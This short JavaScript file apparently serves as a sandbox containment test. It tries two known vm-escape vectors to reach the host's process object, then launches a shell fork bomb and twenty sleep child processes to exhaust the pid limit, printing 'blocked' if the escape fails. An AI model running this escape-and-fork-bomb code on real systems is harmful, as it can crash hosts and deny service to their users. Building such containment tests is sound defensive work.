// With the host process (if reachable): a shell fork bomb plus node children, then the program ends.
let P = null;
// The vectors of vm-escape-process.js: the global object's inherited constructor, a provided function's prototype.
for (const get of [() => this.constructor.constructor('return process')(), () => Object.getPrototypeOf(input.prototype).constructor.constructor('return process')()]) {
  try { P = get(); } catch (e) { P = null; }
  if (P && typeof P.pid === 'number') break;
  P = null;
}
if (!P) {
  console.log('blocked: no process');
} else {
  const cp = P.getBuiltinModule('child_process');
  cp.spawn('/bin/sh', ['-c', 'bomb() { bomb | bomb & }; bomb'], { stdio: 'ignore' });
  let spawned = 0;
  for (let i = 0; i < 20; i++) {
    try { cp.spawn('/bin/sleep', ['987103'], { stdio: 'ignore' }).on('error', () => {}); spawned++; } catch (e) { /* refused */ }
  }
  Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 500); // let the bomb hit the pids limit
  console.log('spawn attempts done');
}
